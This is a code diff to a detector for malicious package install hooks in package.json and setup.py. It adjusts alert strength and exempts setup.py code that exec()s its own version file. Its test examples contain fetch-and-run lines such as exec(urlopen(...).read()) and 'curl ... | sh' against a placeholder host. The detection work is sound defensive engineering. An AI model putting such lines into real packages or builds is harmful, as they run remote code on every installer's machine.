@@ -3,13 +3,14 @@
 import re
 from collections.abc import Iterator
 
-from hunkwise.code.model import Side, Unit
+from hunkwise.code.model import Call, Side, Unit
 from hunkwise.signals.interface import Example, Sighting, Signal
-from hunkwise.signals.seeing import ends, hit, short, span
+from hunkwise.signals.seeing import ends, hit, origin, short, span
 from hunkwise.signals.tables.installing import FETCHES, HARMLESS_SCRIPT, REACHES_OUT, STARTS_PROGRAM
 from hunkwise.signals.tables.languages import ANY
 
 _HOOK = re.compile(r'"(preinstall|install|postinstall|preprepare|prepare)"\s*:\s*"((?:[^"\\]|\\.){1,2000})"')
+_OWN_FILE = re.compile(r"\bopen\(|\.read\(\)$|\.read_text\(|\bcompile\(open")
 _COMMANDS = ("install", "develop", "egg_info", "build_py", "sdist", "bdist_egg", "build")
 
 
@@ -18,7 +19,9 @@ def _see(unit: Unit, side: Side) -> Iterator[Sighting]:
     if base == "package.json":
         for number, text in side.lines:
             for hook, script in _HOOK.findall(text):
-                strength = 0.1 if HARMLESS_SCRIPT.search(script) else 1.0 if FETCHES.search(script) else 0.1 if hook == "prepare" else 0.6
+                # A package that lived without a hook and gets one is rarer, and worse, than a new package that has one.
+                late = 1.0 if unit.before is not None else 0.6
+                strength = 0.1 if HARMLESS_SCRIPT.search(script) else 1.0 if FETCHES.search(script) else 0.1 if hook == "prepare" else late
                 yield Sighting(
                     (number,),
                     {"name": hook, "call": short(script), "how": "runs on every machine that installs the package"},
@@ -39,6 +42,8 @@ def _setup(side: Side) -> Iterator[Sighting]:
         if not (reaches or starts) or (call.function and not (hooks and call.function in inside)):
             continue
         where = "as soon as `setup.py` is read" if not call.function else "in a command of the installation"
+        if call.name in ("exec", "eval") and _reads_own_file(call, side):
+            continue  # the version, read from a file of the package's own
         told = " ".join(given.text for given in call.args[:1])
         strength = (
             1.0
@@ -50,6 +55,14 @@ def _setup(side: Side) -> Iterator[Sighting]:
             else 0.5
         )
         yield Sighting(span(call.line, call.end), {"name": "setup.py", "call": call.path, "how": f"runs {where}"}, strength=strength)
+
+
+def _reads_own_file(call: Call, side: Side) -> bool:
+    """Whether what is run is the text of a local file, and nothing that was fetched or decoded."""
+    given = call.args[0] if call.args else None
+    if given is None or not _OWN_FILE.search(given.text):
+        return False
+    return not any(ends(name, REACHES_OUT) for name in origin(side, given, call.line, call.function).calls)
 
 
 SIGNAL = Signal(
@@ -86,8 +99,10 @@ SIGNAL = Signal(
             path="setup.py",
             line=4,
         ),
+        Example("python", 'import os\nfrom urllib.request import urlopen\nexec(urlopen("https://example.org/a").read())\n', path="setup.py", line=3),
     ),
     stays_quiet=(
+        Example("python", 'from setuptools import setup\n\nmeta = {}\nwith open("a/version.py") as f:\n    exec(f.read(), meta)\nsetup()\n', path="setup.py"),
         Example(
             "json",
             '{\n  "name": "a",\n  "scripts": {\n    "build": "curl https://example.org/a.sh | sh",\n    "test": "node t.js"\n  }\n}\n',
